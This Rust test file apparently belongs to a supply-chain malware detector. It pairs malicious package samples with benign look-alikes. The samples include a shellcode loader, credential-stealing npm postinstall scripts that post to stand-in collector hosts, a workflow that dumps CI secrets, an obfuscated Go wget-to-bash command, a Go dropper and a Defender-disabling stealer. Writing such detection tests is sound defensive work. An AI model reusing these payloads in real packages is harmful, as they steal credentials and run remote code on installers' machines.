//! Techniques of 2025's worms, loaders and typosquats that no rule knew, each beside the
//! honest code it resembles: a shellcode loader in a Python module, TruffleHog run over
//! the home folder, a planted workflow that dumps every secret, npm's own token asked
//! for, a RubyGems plugin that runs on every `gem` command, a Go command spelled from a
//! character table, and a crate searching files for secret keys. Hosts and names are
//! made up.

mod common;

use common::{
    analyse_files as analyse, assert_has, assert_lacks, assert_not_verdict, assert_verdict,
};
use palisade_core::Verdict;
use palisade_detect::Analysis;

/// A source distribution whose package `fastutil` has `init` as its `__init__.py`.
fn sdist(init: &str) -> Analysis {
    sdist_with("fastutil", init, &[])
}

/// The distribution `fastutil` with `init` as the `__init__.py` of `folder`, and `extra`.
fn sdist_with(folder: &str, init: &str, extra: &[(&str, &[u8])]) -> Analysis {
    let init_path = format!("fastutil-1.0/{folder}/__init__.py");
    let mut files: Vec<(&str, &[u8])> = vec![
        (
            "fastutil-1.0/PKG-INFO",
            b"Metadata-Version: 2.1\nName: fastutil\nVersion: 1.0\n",
        ),
        (
            "fastutil-1.0/setup.py",
            b"from setuptools import setup\nsetup(name='fastutil', version='1.0', packages=['fastutil'])\n",
        ),
        (init_path.as_str(), init.as_bytes()),
    ];
    files.extend_from_slice(extra);
    analyse(&files)
}

/// An npm package whose postinstall runs `install.js`.
fn npm_postinstall(install: &str) -> Analysis {
    analyse(&[
        (
            "package/package.json",
            br#"{"name": "demo", "version": "1.0.0", "scripts": {"postinstall": "node install.js"}}"#,
        ),
        ("package/install.js", install.as_bytes()),
    ])
}

#[test]
fn a_module_that_runs_shellcode_is_malicious_wherever_it_sits() {
    let loader = "import ctypes, base64\nbuf = base64.b64decode(BLOB)\nk32 = ctypes.windll.kernel32\nptr = k32.VirtualAlloc(None, len(buf), 0x3000, 0x40)\nk32.RtlMoveMemory(ctypes.c_void_p(ptr), buf, len(buf))\nk32.WaitForSingleObject(k32.CreateThread(None, 0, ctypes.c_void_p(ptr), None, 0, None), -1)\n";
    let analysis = sdist(loader);
    assert_has(&analysis, "execution/shellcode-injection");
    assert_verdict(&analysis, Verdict::Malicious);

    // A binding that reserves memory through VirtualAlloc runs no code from it.
    let allocator = "import ctypes\nk32 = ctypes.windll.kernel32\ndef reserve(n):\n    return k32.VirtualAlloc(None, n, 0x2000, 0x04)\ndef release(p):\n    k32.VirtualFree(p, 0, 0x8000)\n";
    let analysis = sdist(allocator);
    assert_lacks(&analysis, "execution/shellcode-injection");
    assert_verdict(&analysis, Verdict::Clean);

    // A CPU-feature check (polars, archspec) runs a few bytes of CPUID as a function.
    let cpuid = "import ctypes\n_CODE = b'\\x53\\x89\\xf0\\x0f\\xa2\\x5b\\xc3'\nclass CPUID:\n    def __init__(self):\n        self.addr = _VirtualAlloc(None, len(_CODE), 0x3000, 0x40)\n        ctypes.memmove(self.addr, _CODE, len(_CODE))\n        self.func = ctypes.CFUNCTYPE(None, ctypes.c_void_p)(self.addr)\n";
    let analysis = sdist(cpuid);
    assert_lacks(&analysis, "execution/shellcode-injection");
    assert_has(&analysis, "execution/executable-memory-call");
    assert_verdict(&analysis, Verdict::Clean);
}

#[test]
fn trufflehog_over_the_home_folder_at_install_is_a_stealer() {
    let worm = "const { execSync } = require('child_process');\nconst os = require('os');\nconst found = execSync('/tmp/trufflehog filesystem ' + os.homedir() + ' --json').toString();\nfetch('https://results.collector.example/r', { method: 'POST', body: found });\n";
    let analysis = npm_postinstall(worm);
    assert_has(&analysis, "credentials/secret-scanner-harvest");
    assert_verdict(&analysis, Verdict::Malicious);

    // A pre-commit wrapper scanning the repository it was asked to scan.
    let wrapper = "const { execSync } = require('child_process');\nmodule.exports = (dir) => execSync('gitleaks detect --source ' + JSON.stringify(dir));\n";
    let analysis = analyse(&[
        (
            "package/package.json",
            br#"{"name": "demo", "version": "1.0.0"}"#,
        ),
        ("package/index.js", wrapper.as_bytes()),
    ]);
    assert_lacks(&analysis, "credentials/secret-scanner-harvest");
    assert_verdict(&analysis, Verdict::Clean);
}

#[test]
fn planting_a_workflow_that_dumps_every_secret_is_malicious() {
    let worm = "const fs = require('fs');\nconst wf = `on: push\njobs:\n  x:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -d \"$DATA\" https://collector.example/wf\n        env:\n          DATA: ${{ toJSON(secrets) }}\n`;\nfs.mkdirSync('.github/workflows', { recursive: true });\nfs.writeFileSync('.github/workflows/ci-helper.yml', wf);\n";
    let analysis = npm_postinstall(worm);
    assert_has(&analysis, "credentials/ci-secrets-dump");
    assert_has(&analysis, "persistence/self-propagation");
    assert_verdict(&analysis, Verdict::Malicious);

    // A workflow passing the one secret it needs, shipped by mistake.
    let analysis = analyse(&[
        (
            "package/package.json",
            br#"{"name": "demo", "version": "1.0.0"}"#,
        ),
        (
            "package/.github/workflows/release.yml",
            b"jobs:\n  publish:\n    steps:\n      - run: npm publish\n        env:\n          NODE_AUTH_TOKEN: ${{ secrets.NPM_TOKEN }}\n",
        ),
    ]);
    assert_lacks(&analysis, "credentials/ci-secrets-dump");
    assert_verdict(&analysis, Verdict::Clean);
}

#[test]
fn asking_npm_for_its_token_at_install_and_sending_it_is_theft() {
    let thief = "const { execSync } = require('child_process');\nconst token = execSync('npm config get //registry.example.test/:_authToken').toString();\nfetch('https://relay.collector.example/t', { method: 'POST', body: token });\n";
    let analysis = npm_postinstall(thief);
    assert_has(&analysis, "credentials/cli-stored-token");
    assert_verdict(&analysis, Verdict::Malicious);
}

#[test]
fn a_rubygems_plugin_is_install_time_code() {
    let spec = "--- !ruby/object:Gem::Specification\nname: demo\nversion: !ruby/object:Gem::Version\n  version: '1.0'\nextensions: []\n";
    let plugin = "require 'net/http'\nrequire 'json'\nGem.post_install do |installer|\n  Net::HTTP.post(URI('https://stats.collector.example/i'), ENV.to_h.to_json)\nend\n";
    let gem = |path: &str| {
        analyse(&[
            ("metadata.gz!/metadata", spec.as_bytes()),
            ("data.tar.gz!/lib/demo.rb", b"module Demo; end\n"),
            (path, plugin.as_bytes()),
        ])
    };
    let analysis = gem("data.tar.gz!/lib/rubygems_plugin.rb");
    assert_has(&analysis, "install/gem-rubygems-plugin");
    assert_has(&analysis, "correlate/install-time-network");
    assert_verdict(&analysis, Verdict::Malicious);
    // The same code in a library file waits for someone to require it.
    let analysis = gem("data.tar.gz!/lib/demo/stats.rb");
    assert_lacks(&analysis, "correlate/install-time-network");
}

/// A Go module zip holding `source` as its only Go file.
fn go_module(source: &str) -> Analysis {
    analyse(&[
        (
            "example.com/hypert@v1.0.2/go.mod",
            b"module example.com/hypert\n\ngo 1.21\n",
        ),
        ("example.com/hypert@v1.0.2/hypert.go", source.as_bytes()),
    ])
}

#[test]
fn a_command_spelled_from_a_character_table_is_read_and_shown() {
    // The shape of the 2025 Go typosquats: `wget -O - https://... | /bin/bash &`
    // spelled from a sorted table of its characters, run from a package-level var.
    let source = "package hypert\n\nimport \"os/exec\"\n\nfunc run() error {\n\tt := []string{\" \", \"&\", \"-\", \".\", \"/\", \"1\", \"3\", \"4\", \"5\", \"6\", \":\", \"O\", \"a\", \"b\", \"c\", \"d\", \"e\", \"f\", \"g\", \"h\", \"i\", \"l\", \"m\", \"n\", \"o\", \"p\", \"r\", \"s\", \"t\", \"w\", \"x\", \"|\"}\n\tc := t[29] + t[18] + t[16] + t[28] + t[0] + t[2] + t[11] + t[0] + t[2] + t[0] + t[19] + t[28] + t[28] + t[25] + t[27] + t[10] + t[4] + t[4] + t[14] + t[15] + t[23] + t[3] + t[16] + t[30] + t[12] + t[22] + t[25] + t[21] + t[16] + t[4] + t[27] + t[28] + t[24] + t[26] + t[12] + t[18] + t[16] + t[4] + t[12] + t[6] + t[5] + t[8] + t[7] + t[9] + t[13] + t[17] + t[0] + t[31] + t[0] + t[4] + t[13] + t[20] + t[23] + t[4] + t[13] + t[12] + t[27] + t[19] + t[0] + t[1]\n\texec.Command(\"/bin/sh\", \"-c\", c).Start()\n\treturn nil\n}\n\nvar started = run()\n";
    let analysis = go_module(source);
    assert_verdict(&analysis, Verdict::Malicious);
    let shown = analysis
        .findings
        .iter()
        .find(|f| f.rule == "download/pipe-to-shell")
        .expect("the decoded command is analysed");
    assert!(shown.snippet.as_deref().unwrap_or("").contains("/bin/bash"));
    assert_eq!(shown.line, Some(7));

    // A hex-digit table indexed by nibbles is how Go code prints bytes.
    let hex = "package hexfmt\n\nvar digits = []string{\"0\",\"1\",\"2\",\"3\",\"4\",\"5\",\"6\",\"7\",\"8\",\"9\",\"a\",\"b\",\"c\",\"d\",\"e\",\"f\"}\n\nfunc Byte(b byte) string { return digits[b>>4] + digits[b&15] }\n";
    let analysis = go_module(hex);
    assert_lacks(&analysis, "concealment/indexed-character-table");
    assert_verdict(&analysis, Verdict::Clean);
}

#[test]
fn searching_files_for_secret_keys_and_posting_them_is_theft() {
    let crate_with = |lib: &str| {
        analyse(&[
            (
                "fast_log-0.1.3/Cargo.toml",
                b"[package]\nname = \"fast_log\"\nversion = \"0.1.3\"\n",
            ),
            ("fast_log-0.1.3/src/lib.rs", lib.as_bytes()),
        ])
    };
    let thief = "pub fn init() {\n    let re = regex::Regex::new(r\"[1-9A-HJ-NP-Za-km-z]{87,88}\").unwrap();\n    let found: Vec<String> = walk(\".\").filter_map(|t| re.find(&t).map(|m| m.as_str().to_string())).collect();\n    let _ = reqwest::blocking::Client::new().post(\"https://rpc-pool.example.dev/\").body(found.join(\"\\n\")).send();\n}\n";
    let analysis = crate_with(thief);
    assert_has(&analysis, "credentials/private-key-search");
    assert_verdict(&analysis, Verdict::Malicious);

    // Validating an address (32 to 44 characters) beside an RPC client is a wallet SDK.
    let sdk = "pub fn is_address(s: &str) -> bool {\n    regex::Regex::new(r\"^[1-9A-HJ-NP-Za-km-z]{32,44}$\").unwrap().is_match(s)\n}\npub fn balance(c: &reqwest::blocking::Client, a: &str) { let _ = c.post(\"https://rpc.example.dev/\").body(a.to_string()).send(); }\n";
    let analysis = crate_with(sdk);
    assert_lacks(&analysis, "credentials/private-key-search");
    assert_verdict(&analysis, Verdict::Clean);
}

#[test]
fn a_stealer_that_blinds_defender_and_hides_from_analysts_is_flagged() {
    let stealer = "import os, subprocess, psutil\nBLACKLIST = ['httpdebuggerui', 'wireshark', 'fiddler', 'vboxservice', 'df5serv', 'processhacker', 'vboxtray', 'vmtoolsd']\nfor p in psutil.process_iter():\n    if p.name().lower().split('.')[0] in BLACKLIST:\n        p.kill()\nsubprocess.run('powershell Set-MpPreference -DisableRealtimeMonitoring $true -ExclusionPath ' + os.getenv('TEMP'), shell=True)\n";
    let analysis = sdist(stealer);
    assert_has(&analysis, "concealment/anti-analysis-checks");
    assert_has(&analysis, "concealment/security-tool-tampering");
    assert_verdict(&analysis, Verdict::Malicious);

    // A proxy library telling its users which tools show its traffic.
    let proxy = "\"\"\"Debugging: capture the traffic with Wireshark, Fiddler or HTTP Toolkit.\"\"\"\nimport socket\n\ndef forward(a, b):\n    b.sendall(a.recv(4096))\n";
    let analysis = sdist(proxy);
    assert_lacks(&analysis, "concealment/anti-analysis-checks");
    assert_verdict(&analysis, Verdict::Clean);
}

#[test]
fn a_go_init_that_downloads_writes_and_runs_is_a_dropper() {
    let dropper = "package utilz\n\nimport (\n\t\"io\"\n\t\"net/http\"\n\t\"os\"\n\t\"os/exec\"\n)\n\nfunc init() {\n\tresp, err := http.Get(\"https://dl.files.example/agent\")\n\tif err != nil {\n\t\treturn\n\t}\n\tf, _ := os.Create(\"/tmp/.agent\")\n\tio.Copy(f, resp.Body)\n\tf.Close()\n\texec.Command(\"/tmp/.agent\").Start()\n}\n";
    let analysis = go_module(dropper);
    assert_has(&analysis, "correlate/download-write-run");
    assert_verdict(&analysis, Verdict::Malicious);

    // The same steps in a function the caller runs are an updater's.
    let updater = dropper.replace("func init()", "func Update()");
    let analysis = go_module(&updater);
    assert_lacks(&analysis, "correlate/download-write-run");
    assert_verdict(&analysis, Verdict::Clean);
}

#[test]
fn a_cgo_file_with_a_download_helper_is_not_a_dropper() {
    // cgo makes the file build-time code, but only `init` acts on every importer.
    let cgo = "package native\n\n// #include <stdlib.h>\nimport \"C\"\n\nimport (\n\t\"io\"\n\t\"net/http\"\n\t\"os\"\n\t\"os/exec\"\n)\n\nfunc Download(url, to string) error {\n\tresp, err := http.Get(url)\n\tif err != nil {\n\t\treturn err\n\t}\n\tf, _ := os.Create(to)\n\t_, err = io.Copy(f, resp.Body)\n\treturn err\n}\n\nfunc Revision() ([]byte, error) { return exec.Command(\"git\", \"rev-parse\", \"HEAD\").Output() }\n";
    let analysis = go_module(cgo);
    assert_lacks(&analysis, "correlate/download-write-run");
    assert_not_verdict(&analysis, Verdict::Malicious);
}

/// A folder name such as `tools` marks tooling, but a distribution's only package runs
/// on import whatever it is called; naming it `tools` must not hide its payload.
#[test]
fn the_only_package_counts_though_it_is_named_like_tooling() {
    let loader = "import base64\nexec(base64.b64decode('aW1wb3J0IG9zCm9zLnN5c3RlbSgnY3VybCAtcyBodHRwczovL2RsLmZpbGVzLmV4YW1wbGUvYSB8IHNoJykK'))\n";
    for folder in ["tools", "scripts", "demo"] {
        assert_verdict(&sdist_with(folder, loader, &[]), Verdict::Malicious);
    }
    // Beside the real package, `tools` is the developer's tooling.
    let beside = sdist_with(
        "tools",
        loader,
        &[("fastutil-1.0/fastutil/__init__.py", b"")],
    );
    assert_not_verdict(&beside, Verdict::Malicious);
}

/// A shipped Windows program started with its window suppressed when the package is
/// imported (the pyhelper-win shape), beside the git wrapper that hides its console in
/// the function that needs it.
#[test]
fn a_program_started_unseen_at_import_is_a_loader() {
    let loader = sdist(
        "import os, subprocess\nhere = os.path.dirname(__file__)\nsubprocess.Popen([os.path.join(here, 'bin', 'svc.exe')], creationflags=subprocess.CREATE_NO_WINDOW)\n",
    );
    assert_has(&loader, "correlate/import-time-background-process");
    assert_verdict(&loader, Verdict::Malicious);
    let wrapper = sdist(
        "import subprocess\nNO_WINDOW = getattr(subprocess, 'CREATE_NO_WINDOW', 0)\n\ndef git(*args):\n    return subprocess.run(['git', *args], creationflags=subprocess.CREATE_NO_WINDOW, capture_output=True)\n",
    );
    assert_verdict(&wrapper, Verdict::Clean);
    // A version read from git when the module loads, its console hidden, is no loader.
    let version = sdist(
        "import os, subprocess\n_here = os.path.dirname(__file__)\n__version__ = subprocess.check_output(['git', 'describe', '--tags'], cwd=_here, creationflags=getattr(subprocess, 'CREATE_NO_WINDOW', 0)).decode().strip()\n",
    );
    assert_not_verdict(&version, Verdict::Malicious);
}
